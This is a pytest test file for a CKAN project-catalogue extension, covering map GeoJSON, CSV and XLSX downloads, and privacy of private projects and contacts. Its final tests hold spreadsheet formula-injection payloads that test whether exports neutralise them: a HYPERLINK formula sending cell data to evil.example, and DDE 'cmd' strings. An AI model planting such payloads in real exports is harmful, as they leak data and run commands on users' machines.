"""The search as map points and downloads; the home page's and a local body's ways in."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from ckan.tests import factories as ckan_factories, helpers

from tests import factories

pytestmark = pytest.mark.usefixtures("clean_db", "clean_index")


@pytest.fixture
def catalogue():
    """Barcelona: two projects (one private); Girona and Tremp: one each."""
    bodies = {place: factories.body_at(place, ine_code=f"0{i}001") for i, place in enumerate(("barcelona", "girona", "tremp"))}
    factories.project_of(bodies["barcelona"], "xatbot-bcn", area="citizen_attention", technologies=["chatbot", "WhatsApp"])
    factories.project_of(bodies["barcelona"], "intern-bcn", area="citizen_attention", private=True)
    factories.project_of(bodies["girona"], "sensors-girona", area="planning_management")
    factories.project_of(bodies["tremp"], "tramits-tremp", area="services_procedures")
    return bodies


def csv_rows(response):
    assert response.headers["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.body.lstrip("\ufeff"))))


def test_map_points_are_the_search_results(app, catalogue):
    collection = app.get("/en/project/map.geojson", query_string={"area": "citizen_attention"}).json

    assert collection["count"] == 1  # the private one is not for an anonymous reader
    (feature,) = collection["features"]
    assert feature["geometry"]["coordinates"] == pytest.approx([2.17724, 41.38240])
    assert feature["properties"] == {
        "name": "xatbot-bcn", "title": "xatbot-bcn", "url": "/en/project/xatbot-bcn",
        "body": "Ajuntament de Barcelona", "area": "First line of citizen attention", "distance": "",
    }


def test_map_points_of_a_distance_search_say_how_far(app, catalogue):
    collection = app.get("/en/project/map.geojson", query_string={"ext_near": "Ajuntament de Girona", "ext_radius_km": "100"}).json

    assert [f["properties"]["name"] for f in collection["features"]] == ["sensors-girona", "xatbot-bcn"]
    assert collection["features"][1]["properties"]["distance"] == "85.8 km away"


def test_map_refuses_bad_input_with_a_message(app, catalogue):
    response = app.get("/en/project/map.geojson", query_string={"ext_near": "Enlloc"}, status=400)
    assert response.json == {"error": ['No local body is called "Enlloc".']}


def test_download_refuses_bad_input_with_a_message(app, catalogue):
    response = app.get("/en/project/export.csv", query_string={"ext_radius_km": "-1", "ext_near": "Ajuntament de Girona"}, status=400)
    assert "The radius must be a number of kilometres above 0" in response.body


def test_csv_has_one_row_per_result_and_no_private_contact_details(app, catalogue):
    helpers.call_action(
        "package_patch", {"user": ckan_factories.Sysadmin()["name"]}, id="xatbot-bcn",
        contacts=[
            {"name": "Marta Puig", "role": "Cap", "email": "marta@example.cat", "phone": "+34 930 000 000", "public": "yes"},
            {"name": "Jordi Soler", "role": "TIC", "email": "jordi@example.cat", "phone": "930 111 111", "public": "no"},
        ],
    )

    rows = csv_rows(app.get("/en/project/export.csv"))

    header, body = rows[0], rows[1:]
    assert header[:3] == ["Title", "Address", "Local body"]
    assert sorted(row[0] for row in body) == ["sensors-girona", "tramits-tremp", "xatbot-bcn"]
    everything = "\n".join(",".join(row) for row in rows)
    assert "Marta Puig" in everything
    assert "Jordi Soler" not in everything
    assert "@example.cat" not in everything and "930" not in everything


def test_csv_follows_filters_and_distance_order(app, catalogue):
    rows = csv_rows(app.get("/en/project/export.csv", query_string={"ext_near": "Ajuntament de Tremp"}))

    assert [row[0] for row in rows[1:]] == ["tramits-tremp", "xatbot-bcn", "sensors-girona"]
    assert rows[0][-1] == "Distance (km)"
    assert float(rows[2][-1]) == pytest.approx(factories.great_circle_km((42.16703, 0.89487), (41.38240, 2.17724)), abs=1)

    filtered = csv_rows(app.get("/en/project/export.csv", query_string={"area": "planning_management"}))
    assert [row[0] for row in filtered[1:]] == ["sensors-girona"]


def test_members_download_their_private_projects(app, catalogue):
    editor = factories.editor_of(catalogue["barcelona"]["id"])

    token = helpers.call_action("api_token_create", user=editor["name"], name="test")["token"]

    rows = csv_rows(app.get("/en/project/export.csv", headers={"Authorization": token}))

    assert "intern-bcn" in [row[0] for row in rows[1:]]


def test_xlsx_download_holds_the_same_table(app, catalogue):
    response = app.get("/ca/project/export.xlsx")

    assert response.headers["Content-Type"].startswith("application/vnd.openxmlformats")
    sheet = load_workbook(io.BytesIO(response.data)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][0] == "Títol"
    assert len(rows) == 1 + 3


def test_search_page_offers_map_and_downloads_of_this_search(app, catalogue):
    page = app.get("/en/project/", query_string={"area": "citizen_attention"}).body

    assert 'data-module="digicanvis-map"' in page
    assert "/en/project/map.geojson?area=citizen_attention" in page
    assert "/en/project/export.csv?area=citizen_attention" in page


def test_home_page_counts_areas_and_proximity_and_links_into_search(app, catalogue):
    page = app.get("/en/").body

    assert '<a class="card h-100 text-decoration-none digicanvis-area" href="/en/project/?area=citizen_attention">' in page
    areas = page[page.index('id="home-areas"'):]
    social = areas[areas.index("First line of citizen attention"):]
    assert "1 project<" in social[:300]  # the private one is not counted for anonymous readers
    assert 'href="/en/project/?proximity=km0"' in page
    assert "sensors-girona" in page  # latest projects


def test_local_body_page_lists_projects_of_nearby_bodies(app, catalogue, ckan_config):
    ckan_config["ckanext.digicanvis.nearby_radius_km"] = 100

    page = app.get("/en/organization/ajuntament-de-girona").body

    nearby = page[page.index("Projects of bodies within 100 km"):]
    assert "xatbot-bcn" in nearby
    assert "85.8 km away" in nearby
    assert "tramits-tremp" not in nearby  # 165 km away
    assert "sensors-girona" not in nearby  # its own project is listed above, not as a neighbour's
    assert 'data-module-pin-lat="41.98315"' in page


# Cells a spreadsheet would run as formulas (issue 10, defect 5)
FORMULAS = {
    "title": '=HYPERLINK("http://evil.example/?"&A1,"Cliqueu")',
    "notes": "+cmd|' /C calc'!A0",
    "technologies": ["@SUM(1+1)*cmd|' /C calc'!A0", "-2+3"],
    "contacts": [{"name": "=1+1", "role": "Cap", "email": "x@example.cat", "phone": "", "public": "yes"}],
}


@pytest.fixture
def hostile_project(catalogue):
    helpers.call_action("package_patch", {"user": ckan_factories.Sysadmin()["name"]}, id="tramits-tremp", **FORMULAS)
    return "tramits-tremp"


def test_csv_cells_that_start_like_a_formula_are_neutralised(app, hostile_project):
    rows = csv_rows(app.get("/en/project/export.csv", query_string={"q": "name:tramits-tremp"}))

    header, (row,) = rows[0], rows[1:]
    cells = dict(zip(header, row))
    assert cells["Title"] == "'" + FORMULAS["title"]
    assert cells["Description"] == "'" + FORMULAS["notes"]
    assert cells["Technologies"] == "'@SUM(1+1)*cmd|' /C calc'!A0; -2+3"
    assert cells["Public contacts"] == "'=1+1"
    for cell in row:
        assert not cell or cell[0] not in "=+-@\t\r", cell


def test_xlsx_cells_that_start_like_a_formula_are_text(app, hostile_project):
    import zipfile

    response = app.get("/en/project/export.xlsx", query_string={"q": "name:tramits-tremp"})

    with zipfile.ZipFile(io.BytesIO(response.data)) as package:
        sheet_xml = package.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no formula anywhere
    workbook = load_workbook(io.BytesIO(response.data))
    header, row = list(workbook.active.iter_rows(values_only=True))
    cells = dict(zip(header, row))
    assert cells["Title"] == "'" + FORMULAS["title"]
    assert all(cell.data_type != "f" for cell in next(workbook.active.iter_rows(min_row=2, max_row=2)))


def test_downloads_are_streamed_a_page_of_results_at_a_time(app, catalogue, monkeypatch):
    from ckanext.digicanvis.views import discovery

    monkeypatch.setattr(discovery, "EXPORT_PAGE", 2)
    monkeypatch.setattr(discovery, "EXPORT_MAX_ROWS", 3)
    asked = []
    search = discovery.search
    monkeypatch.setattr(discovery, "search", lambda data: asked.append((data["start"], data["rows"])) or search(data))

    response = app.get("/en/project/export.csv")

    assert "Content-Length" not in response.headers  # streamed, not built whole first
    assert len(csv_rows(response)) == 1 + 3  # the cap, out of the 3 public projects + a page more
    assert asked == [(0, 2), (2, 1)]
    assert len(load_workbook(io.BytesIO(app.get("/en/project/export.xlsx").data)).active["A"]) == 1 + 3
